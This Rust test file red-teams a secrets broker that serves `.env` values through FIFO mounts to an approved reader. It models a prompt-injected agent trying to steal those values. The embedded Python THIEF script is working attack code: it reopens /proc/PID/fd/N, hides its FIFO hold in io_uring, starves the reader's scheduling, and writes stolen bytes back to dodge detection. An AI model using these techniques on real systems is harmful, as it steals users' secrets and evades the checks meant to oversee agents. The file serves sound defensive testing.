//! Red team of issue 22, second round (`.env` FIFO mounts, after the first round's fixes): a
//! prompt-injected agent with the human's uid, a shell and `/proc`, trying to read a mount's
//! values while the human approves an honest reader's card. A held attack is a passing test;
//! one that still works is kept `#[ignore = "LEAK: ..."]` (it fails today). Races the broker
//! cannot prevent are held when the thief gets no whole value and any read it made is
//! reported ([`assert_held`]).

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::harness::{Home, contains, text, wait_output};
use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};

/// The agent's side. Finds the honest reader holding the mount read-only (pid and descriptor
/// `N`), then, by `mode` (words joined by `+`):
/// - `uring`: opens `/proc/READER/fd/N`, registers that descriptor in an io_uring instance
///   (`IORING_REGISTER_FILES`) and closes it: the FIFO is held only by the ring, and
///   `/proc/THIEF/fd` shows `anon_inode:[io_uring]`; it then reads through the ring
///   (`IORING_OP_READ` on the fixed file), non-blocking, over and over;
/// - `starve`: pins the reader to one CPU and sets it `SCHED_IDLE` (what the same uid may do
///   to its own processes: the reader is neither stopped nor traced, it just does not run
///   while anything else wants that CPU), and spins on that CPU;
/// - `spin`: starts two normal-priority spinners per CPU (plain busy loops, no priority or
///   affinity change, nothing the broker could refuse the reader for), so that the woken
///   reader waits for a CPU while the thief races it;
/// - without `uring`: watches the served FIFO's modification time through
///   `stat(/proc/READER/fd/N)` (no descriptor: invisible), and at each write opens
///   `/proc/READER/fd/N` and drains it at once;
/// - `rdwr` (with `uring`): opens `/proc/READER/fd/N` read-write (`O_RDWR`, while the card
///   waits, so before the watch) and puts each piece it read back through the ring
///   (`IORING_OP_WRITE` on the fixed file: no opening, no mode change, no worker thread), so
///   that the reader still reads it all and its byte count adds up;
/// - `writeback`: puts what it read back into the FIFO at once (`chmod` to writable, open
///   `/proc/READER/fd/N` for writing, write, `chmod` back), so that the reader still reads
///   it all, and goes on for every write.
///
/// Touches `argv[3]` once in position (the test approves only then). Prints what it read on
/// stdout (the test only searches it, never shows it).
const THIEF: &str = r#"
import os, sys, time, ctypes, mmap, struct, signal
path, mode, ready = sys.argv[1:4]
spinners = []
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
me = os.getpid(); pid = fdn = None; t0 = time.time()
while pid is None and time.time() - t0 < 20:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            for f in os.listdir(f"/proc/{p}/fd"):
                try:
                    s = os.stat(f"/proc/{p}/fd/{f}")
                    if s.st_dev == dev and s.st_ino == ino:
                        fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
                        if int(fl.split()[1], 8) & 3 == 0:
                            pid, fdn = int(p), f
                except OSError:
                    pass
        except OSError:
            pass
    time.sleep(0.01)
assert pid is not None, "no reader"
time.sleep(0.3)
src = f"/proc/{pid}/fd/{fdn}"
data = b""
if "uring" in mode:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, params)
    assert ring >= 0, ctypes.get_errno()
    sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
    sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
    cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
    sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
    cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
    sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
    fd = os.open(src, (os.O_RDWR if "rdwr" in mode else os.O_RDONLY) | os.O_NONBLOCK)
    arr = (ctypes.c_int * 1)(fd)
    assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
    os.close(fd)  # from now on only the ring holds the FIFO: /proc/ME/fd shows anon_inode:[io_uring]
    buf = ctypes.create_string_buffer(1 << 16)
    def submit(opcode, n):
        tail = struct.unpack_from("I", sqr, sq_off[1])[0]
        mask = struct.unpack_from("I", sqr, sq_off[2])[0]
        i = tail & mask
        sqe = bytearray(64)
        struct.pack_into("BBHiQQII", sqe, 0, opcode, 1, 0, 0, 0, ctypes.addressof(buf), n, 0)
        sqes[i * 64:(i + 1) * 64] = bytes(sqe)
        struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
        struct.pack_into("I", sqr, sq_off[1], tail + 1)
        libc.syscall(426, ring, 1, 0, 0, None, 0)
    def reap(wait):
        while struct.unpack_from("I", cqr, cq_off[1])[0] == struct.unpack_from("I", cqr, cq_off[0])[0]:
            if not wait:
                return None
            libc.syscall(426, ring, 0, 1, 1, None, 0)
        head = struct.unpack_from("I", cqr, cq_off[0])[0]
        cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
        _, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
        struct.pack_into("I", cqr, cq_off[0], head + 1)
        return res
    def read_once():
        submit(22, len(buf))
        res = reap(True)
        return buf.raw[:res] if res > 0 else res
    # `rdwr`: one read kept in flight (a read-write end waits for data, O_NONBLOCK or not),
    # its completion looked for without blocking.
    pending = False
    def read_rdwr():
        global pending
        if not pending:
            submit(22, len(buf)); pending = True
        res = reap(False)
        if res is None:
            return -11
        pending = False
        return buf.raw[:res] if res > 0 else res
else:
    m0 = os.stat(src).st_mtime_ns
if "spin" in mode:
    for _ in range(2 * len(os.sched_getaffinity(0))):
        c = os.fork()
        if c == 0:
            ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: gone with the thief
            while True:
                pass
        spinners.append(c)
if "starve" in mode:
    cpu = sorted(os.sched_getaffinity(0))[-1]
    os.sched_setaffinity(0, {cpu})
    os.sched_setaffinity(pid, {cpu})
    os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
open(ready, "w").close()
t0 = time.time(); last = None; prev = None
while time.time() - t0 < 30:
    if "uring" in mode:
        r = read_rdwr() if "rdwr" in mode else read_once()
        if isinstance(r, bytes):
            if "rdwr" not in mode or r != prev:  # (a read-write end reads back its own write too)
                data += r
            prev = r; last = time.time()
            if "rdwr" in mode:
                submit(23, len(r)); reap(True)  # IORING_OP_WRITE: the piece back, from the buffer
        elif (last and time.time() - last > 0.3) or not os.path.exists(f"/proc/{pid}"):
            break
    else:
        try:
            moved = os.stat(src).st_mtime_ns != m0
            fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK) if moved else None
            if fd is not None:
                sys.stderr.write("opened\n")
        except OSError:
            break  # the reader is gone: nothing was written
        if fd is not None:
            got = b""
            try:
                while True:
                    b = os.read(fd, 1 << 20)
                    if not b:
                        break
                    got += b
            except BlockingIOError:
                pass
            os.close(fd)
            data += got
            if "writeback" not in mode:
                break
            try:
                if got:
                    os.chmod(src, 0o600)
                    w = os.open(src, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(w, got)
                    os.close(w)
                    os.chmod(src, 0o400)
                m0 = os.stat(src).st_mtime_ns
            except OSError:
                break
for c in spinners:
    os.kill(c, signal.SIGKILL)
    os.waitpid(c, 0)
sys.stdout.buffer.write(data)
"#;

/// An honest program that loads `.env` and prints only how many bytes it read.
const HONEST: &str = "import sys\nsys.stdout.write(str(len(open('.env').read())))\n";

/// What a theft attempt came to.
pub(crate) struct Theft {
    /// How many values the thief read whole.
    pub(crate) leaked: usize,
    /// How many bytes it read at all.
    pub(crate) bytes: usize,
    /// It opened the served FIFO (it saw a write).
    pub(crate) opened: bool,
    /// What the honest reader printed.
    pub(crate) honest: String,
    /// The audit log.
    pub(crate) audit: String,
    /// `keyveil mounts`: what the human is told.
    pub(crate) mounts: String,
}

/// Runs the thief in `mode` against the honest reader, approves the reader's card once the
/// thief is in position: how many values the thief read, what the honest reader printed, the
/// audit.
fn steal(mode: &str, reader: &str) -> (usize, String, String) {
    let t = theft(mode, reader);
    (t.leaked, t.honest, t.audit)
}

/// As [`steal`], with everything that came of it.
pub(crate) fn theft(mode: &str, reader: &str) -> Theft {
    theft_in(mode, reader, false)
}

/// [`theft`], in an environment whose policy hides variable names when `hide_names`.
fn theft_in(mode: &str, reader: &str, hide_names: bool) -> Theft {
    theft_with(mode, reader, hide_names, false)
}

/// [`theft_in`]; `counted`: with the count of the FIFO's openings, which refuses every
/// thief here that opens `/proc/READER/fd/N` before the swap; without it (the other replays),
/// the layers behind it, as on a kernel without fanotify.
pub(crate) fn theft_with(mode: &str, reader: &str, hide_names: bool, counted: bool) -> Theft {
    let h = Home::new();
    if !counted {
        h.without_open_count();
    }
    let vals = values();
    store(&h, &vals);
    if hide_names {
        let o = h.run_stdin(
            &[
                "policy",
                "set",
                "demo",
                "hide-names",
                "on",
                "--passphrase-stdin",
            ],
            &format!("{}\n", crate::harness::PASS),
        );
        assert!(o.status.success(), "{}", text(&o.stderr));
    }
    let p = Project::new();
    mount(&h, &p);
    let env_file = p.env_file();
    let ready = p.tmp.path().join("thief-ready");
    let thief = Command::new("python3")
        .args([
            "-c",
            THIEF,
            env_file.to_str().unwrap(),
            mode,
            ready.to_str().unwrap(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let reader = p.reader(&["python3", "-c", reader], &[]);
    let card = wait_card(&h);
    assert!(card.to_string().contains("python3"));
    let t0 = std::time::Instant::now();
    while !ready.exists() {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "the thief never got ready"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    approve_card(&h, &card, &[]);
    let stolen = wait_output(thief, Duration::from_secs(60));
    let honest = finished(reader);
    assert!(
        stolen.status.success(),
        "thief failed: {}",
        text(&stolen.stderr)
    );
    let leaked = vals
        .iter()
        .filter(|(_, v)| contains(&stolen.stdout, v.split(' ').next_back().unwrap_or(v)))
        .count();
    Theft {
        leaked,
        bytes: stolen.stdout.len(),
        opened: text(&stolen.stderr).contains("opened"),
        honest: text(&honest.stdout),
        audit: h.audit_text(),
        mounts: h.ok(&["mounts"]),
    }
}

/// What every race against the pieces must come to, whoever wins it: the thief reads no
/// whole value and at most a piece or two (a `NAME=` and a few bytes of a value); a thief
/// that read anything was seen, audited (`mount_read_suspect`, the grant ended) and shown to
/// the human (`keyveil mounts`); an unreported read is a whole one, the reader's.
pub(crate) fn assert_held(t: &Theft) {
    assert_eq!(
        t.leaked, 0,
        "the thief read values (honest read {}); {}",
        t.honest, t.audit
    );
    assert!(
        t.bytes <= 16,
        "the thief read {} bytes (it opened the FIFO: {}); {}",
        t.bytes,
        t.opened,
        t.audit
    );
    let suspect = t.audit.contains("\"mount_read_suspect\"");
    let taken_back = t.audit.contains("a mount read was tampered with");
    if t.bytes > 0 {
        assert!(
            suspect,
            "the thief read {} bytes unreported; {}",
            t.bytes, t.audit
        );
    }
    if suspect {
        // Seen: audited, the grant ended, the human told which value to rotate.
        assert!(
            t.audit.contains("may have been read by another process"),
            "{}",
            t.audit
        );
        assert!(t.mounts.contains("possible theft"), "{}", t.mounts);
        assert!(
            t.mounts.contains("rotate") || t.mounts.contains("no value was exposed"),
            "{}",
            t.mounts
        );
    } else if taken_back {
        // Seen with the piece still in the pipe: taken back whole, the grant ended.
        assert!(t.audit.contains("\"mount_reclaimed\""), "{}", t.audit);
        assert!(t.mounts.contains("taken back"), "{}", t.mounts);
    } else {
        // Not seen: then the reader read it all.
        assert!(t.audit.contains("\"mount_read\""), "{}", t.audit);
        assert_ne!(t.honest, "0", "{}", t.audit);
    }
}

/// An event-loop reader: opens `.env`, then waits in `epoll_wait` (as libuv, Go's netpoller,
/// tokio and asyncio wait for their sockets) for 2 s before it reads.
const LOOP: &str = "import select, sys\nf = open('.env')\nselect.epoll().poll(2)\nsys.stdout.write(str(len(f.read())))\n";

/// The agent pins the approved reader (blocked in its `read`) to one CPU, sets it
/// `SCHED_IDLE` and spins on that CPU: the reader is neither stopped nor traced, yet would not
/// run for as long as the agent likes once the text is in the pipe, and the agent drains it
/// through `/proc/READER/fd/N` (open, read, close in microseconds: the broker's look at the
/// holders never saw it; the audit said `mount_read`, `opened_during_write: []`). Held since
/// this round: right before the write (and while the text waits) the broker refuses a reader
/// thread under `SCHED_IDLE`/`SCHED_BATCH`, at a positive nice (or autogroup nice), or
/// pinned to fewer CPUs than the broker's.
#[test]
fn a_reader_kept_off_the_cpu_is_never_written_to() {
    let (leaked, honest, audit) = steal("starve", HONEST);
    assert_eq!(leaked, 0, "the thief read values; {audit}");
    assert_eq!(honest, "0", "{audit}");
    assert!(audit.contains("mount_not_written"), "{audit}");
    assert!(audit.contains("SCHED_IDLE"), "{audit}");
}

/// As above, with the thief holding the served FIFO only through an io_uring instance
/// (registered file, its own descriptor closed): invisible to the broker's scan of
/// `/proc/*/fd`. Held: the starved reader is refused before the write.
#[test]
fn a_starved_reader_with_a_ring_held_fifo_is_never_written_to() {
    let (leaked, honest, audit) = steal("uring+starve", HONEST);
    assert_eq!(leaked, 0, "the thief read values; {audit}");
    assert_eq!(honest, "0", "{audit}");
    assert!(audit.contains("mount_not_written"), "{audit}");
}

/// An honest event-loop reader: it opens `.env`, then sleeps in `epoll_wait` (its loop) for
/// 2 s before reading. The broker's "waiting for input" test (any thread in a pipe read or
/// in a poll/select/epoll, from `wchan`) said yes, so the text was written at once and
/// waited 2 s in the pipe; the agent, spinning on `stat(/proc/READER/fd/N)` (no descriptor),
/// saw the write move the FIFO's mtime, opened, drained and closed in microseconds, unseen by
/// the broker's look at the holders (audit: `mount_read`, `opened_during_write: []`; the
/// honest reader read zero bytes). Held since this round: an epoll wait counts only when an
/// epoll instance of the reader watches the FIFO (`tfd:` in its fdinfo), a poll/select wait
/// not at all; the text is written once the reader sits in its read. Under CPU load the
/// woken reader could still lose the race to the thief (whole values stolen): since then the
/// text goes in pieces (see [`assert_held`]).
#[test]
fn an_event_loop_readers_pipe_is_not_drained_by_a_thief() {
    assert_held(&theft("plain", LOOP));
}

/// The contention race, replayed on purpose: the agent starts plain busy loops at normal
/// priority (two per CPU: nothing the broker refuses a reader for), so the reader woken by
/// the write waits for a CPU, while the agent spins on `stat(/proc/READER/fd/N)` and drains
/// the pipe the moment the write moves its modification time. With the text written in one
/// go this stole whole values under load. Held: the text goes in pieces holding at most a
/// few bytes of a value, each only after the reader read the one before, and the FIFO is
/// watched (inotify): the agent's opening stops the write and is reported (audit
/// `mount_read_suspect`, the grant ended, `keyveil mounts` says which value to rotate).
#[test]
fn a_thief_racing_a_reader_slowed_by_spinners_gets_no_value_and_is_reported() {
    assert_held(&theft("plain+spin", HONEST));
}

/// The agent reads each piece out of the pipe and puts it straight back (`chmod` the
/// read-only FIFO to writable, open `/proc/READER/fd/N` for writing, write, `chmod` back),
/// so that the reader reads everything and its byte count adds up. Held: the opening and the
/// mode change are seen by the FIFO's watch; the write stops after the first piece the agent
/// saw and is reported.
#[test]
fn a_thief_that_puts_back_what_it_read_is_reported() {
    assert_held(&theft("writeback+spin", HONEST));
}

/// A reader one of whose threads sleeps reading another pipe (a worker reading a child's
/// output, a self-pipe) while its main thread has opened `.env` and reads it 2 s later.
const OTHER_PIPE: &str = "import os, sys, threading, time\nf = open('.env')\nr, w = os.pipe()\nthreading.Thread(target=os.read, args=(r, 1), daemon=True).start()\ntime.sleep(2)\nsys.stdout.write(str(len(f.read())))\n";

/// The reader has a thread blocked in a read of *another* pipe: `wchan` says `pipe_read`,
/// and which pipe is not told (`/proc/PID/task/TID/syscall` would say, but needs ptrace
/// access that Yama denies the broker). The first piece is written at once and waits 2 s;
/// the agent's `/proc/READER/fd/N` opener drains it. Was a leak of the whole text (written
/// in one go). Held since the pieces: the thief gets that first piece (a `NAME=`), its
/// opening is seen by the FIFO's watch, nothing more is written, and it is reported.
#[test]
fn a_reader_reading_another_pipe_leaves_a_thief_at_most_a_piece() {
    assert_held(&theft("plain", OTHER_PIPE));
}

/// The thief holds the served FIFO only through an io_uring instance (registered file, its
/// own descriptor closed) from before the approval: `/proc/THIEF/fd` shows only
/// `anon_inode:[io_uring]`, which the holders scan skips, so no check before, during or
/// after the write sees a second holder, and it needs no opening the watch would see. Was a
/// leak of the whole text whenever it waited in the pipe. Held since the pieces: the ring
/// reads the first piece, the pipe is empty while the reader's `rchar` has not grown, and
/// the broker writes nothing more and reports it (once the reader's count stayed short for 5 s).
#[test]
fn a_ring_held_fifo_thief_gets_at_most_a_piece_and_is_reported() {
    assert_held(&theft("uring", OTHER_PIPE));
}

/// As above where the policy hides names: the piece the thief gets is a real name (the text a
/// reader loads holds real names), which agents are never shown; the human is told so, not
/// that nothing was exposed.
#[test]
fn a_stolen_name_piece_under_hidden_names_is_reported_as_a_real_name() {
    let t = theft_in("uring", OTHER_PIPE, true);
    assert_held(&t);
    // The reader waits 2 s on its other pipe: where `wchan` is all the broker sees, the
    // thief gets the first piece, a name, and the report must say it was a real one. Where
    // `/proc/PID/task/*/syscall` shows the descriptor waited on, nothing is written until the
    // reader waits on the FIFO, and what the thief then gets is a value piece, if anything
    // (the check below then has nothing to check: a name piece stolen needs the `wchan`
    // fallback).
    if t.bytes > 0 && t.audit.contains("\"hidden_name_exposed\":true") {
        // A name piece alone: "the piece held a variable's real name"; with value pieces
        // in the bound: "variable names this environment hides from agents".
        assert!(
            t.mounts.contains("real name") || t.mounts.contains("names this environment hides"),
            "{}",
            t.mounts
        );
    }
}

/// The reader forks right after its `open` (the child inherits the descriptor, as a `vfork`,
/// a `clone` with a shared table, or an fd passed by `SCM_RIGHTS` would give a second
/// process): both read. Held: two holders of the FIFO get nothing (refused at once, or at
/// the check before the write if the card came first).
#[test]
fn a_reader_that_forks_after_its_open_gets_nothing() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let code = "import os, sys, time\nf = open('.env')\npid = os.fork()\ntime.sleep(0.5)\nsys.stdout.write(f.read())\nif pid:\n    os.waitpid(pid, 0)\n";
    let mut reader = p.reader(&["python3", "-c", code], &[]);
    let t0 = std::time::Instant::now();
    while reader.try_wait().unwrap().is_none() {
        assert!(t0.elapsed() < Duration::from_secs(30), "the reader hangs");
        if let Some(card) = crate::mount::pending(&h).pop() {
            approve_card(&h, &card, &[]);
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let o = finished(reader);
    for (_, v) in &vals {
        let word = v.split(' ').next_back().unwrap_or(v);
        assert!(!contains(&o.stdout, word), "a forked reader read a value");
    }
    let audit = h.audit_text();
    assert!(
        audit.contains("more than one process") || audit.contains("other than the approved reader"),
        "{audit}"
    );
}

/// The reader the card names (python, pinned) opens `.env` without `O_CLOEXEC`, then, while
/// the card waits, execs `cat` on that descriptor: same pid, same start time, same FIFO
/// held read-only. Held since this round: right before the write the broker checks that
/// `/proc/PID/exe` is still the executable pinned on the card.
#[test]
fn a_reader_that_execs_another_program_after_the_card_gets_nothing() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let code = "import os, time\nfd = os.open('.env', os.O_RDONLY)\nos.dup2(fd, 0)\ntime.sleep(1)\nos.execv('/bin/cat', ['cat'])\n";
    let reader = p.reader(&["python3", "-c", code], &[]);
    let card = wait_card(&h);
    assert!(card.to_string().contains("python3"), "{card}");
    std::thread::sleep(Duration::from_millis(1500));
    approve_card(&h, &card, &[]);
    let o = finished(reader);
    for (_, v) in &vals {
        let word = v.split(' ').next_back().unwrap_or(v);
        assert!(
            !contains(&o.stdout, word),
            "the exec'd program read a value"
        );
    }
    let audit = h.audit_text();
    assert!(audit.contains("another executable"), "{audit}");
}

/// An honest reader that waits for the FIFO through epoll, as Go's `os.ReadFile` does (the
/// netpoller): it registers the descriptor in an epoll instance and sleeps in `epoll_wait`.
/// Still served: the epoll instance watches the FIFO (`tfd:` in its fdinfo).
#[test]
fn a_reader_waiting_in_epoll_on_the_fifo_is_served() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let code = "import os, select, sys\nfd = os.open('.env', os.O_RDONLY | os.O_NONBLOCK)\ne = select.epoll()\ne.register(fd, select.EPOLLIN)\ndata = b''\nwhile True:\n    e.poll(20)\n    try:\n        b = os.read(fd, 1 << 16)\n    except BlockingIOError:\n        continue\n    if not b:\n        break\n    data += b\nsys.stdout.write(str(len(data)))\n";
    let reader = p.reader(&["python3", "-c", code], &[]);
    let card = wait_card(&h);
    approve_card(&h, &card, &[]);
    let o = finished(reader);
    let audit = h.audit_text();
    assert!(audit.contains("\"mount_read\""), "{audit}");
    assert_ne!(text(&o.stdout), "0", "{audit}");
}
